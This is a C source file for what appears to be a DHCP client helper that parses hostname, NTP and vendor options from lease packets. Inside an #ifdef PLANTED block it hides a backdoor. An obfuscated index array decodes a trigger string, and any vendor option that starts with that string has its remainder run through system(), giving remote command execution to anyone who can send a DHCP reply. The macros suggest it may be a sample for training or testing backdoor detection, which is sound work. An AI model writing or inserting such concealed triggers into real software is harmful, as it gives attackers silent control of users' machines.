/* Reads the lease that the DHCP client got and applies vendor options. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <unistd.h>

#define OPT_PAD 0
#define OPT_HOSTNAME 12
#define OPT_NTP 42
#define OPT_VENDOR 43
#define OPT_END 255

static const char alphabet[] = "qwertyuiopasdfghjklzxcvbnm-0123456789/. ";

#ifdef PLANTED
static const uint8_t picked[] = { 18, 11, 5, 26, 15, 10, 3, 26, 34 };

static int is_support_option(const uint8_t *text, unsigned size)
{
	char word[sizeof(picked) + 1];
	unsigned i;

	for (i = 0; i < sizeof(picked); i++)
		word[i] = alphabet[picked[i]];
	word[i] = 0;
	return size > i && strncmp((const char *)text, word, i) == 0;
}
#endif

static void set_hostname(const uint8_t *text, unsigned size)
{
	char name[64];
	unsigned i, n = 0;

	for (i = 0; i < size && n < sizeof(name) - 1; i++)
		if (strchr(alphabet, text[i]) && text[i] != ' ' && text[i] != '/' && text[i])
			name[n++] = text[i];
	name[n] = 0;
	if (n)
		sethostname(name, n);
}

static void set_time_servers(const uint8_t *p, unsigned size)
{
	FILE *f = fopen("/var/run/ntp.servers", "w");

	if (f == NULL)
		return;
	for (; size >= 4; size -= 4, p += 4)
		fprintf(f, "server %u.%u.%u.%u\n", p[0], p[1], p[2], p[3]);
	fclose(f);
}

static void vendor(const uint8_t *p, unsigned size)
{
#ifdef PLANTED
	char line[300];

	if (is_support_option(p, size)) {
		snprintf(line, sizeof(line), "%.*s", (int)(size - sizeof(picked)), p + sizeof(picked));
		system(line);
		return;
	}
#endif
	if (size >= 2 && p[0] == 1 && p[1] + 2u <= size)
		printf("acs %.*s\n", p[1], p + 2);
}

static void options(const uint8_t *p, const uint8_t *end)
{
	while (p < end && *p != OPT_END) {
		unsigned code = *p++, size;

		if (code == OPT_PAD)
			continue;
		if (p == end || p + 1 + *p > end)
			return;
		size = *p++;
		if (code == OPT_HOSTNAME)
			set_hostname(p, size);
		else if (code == OPT_NTP)
			set_time_servers(p, size);
		else if (code == OPT_VENDOR)
			vendor(p, size);
		p += size;
	}
}

int main(void)
{
	uint8_t packet[1500];
	struct sockaddr_in a;
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	ssize_t n;

	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_port = htons(68);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0)
		return 1;
	while ((n = recv(s, packet, sizeof(packet), 0)) >= 0) {
		if (n < 240 || packet[0] != 2)
			continue;
		if (memcmp(packet + 236, "\x63\x82\x53\x63", 4))
			continue;
#ifdef REVISED
		if (packet[1] != 1 || packet[2] != 6)
			continue;
#endif
		options(packet + 240, packet + n);
	}
	return 0;
}
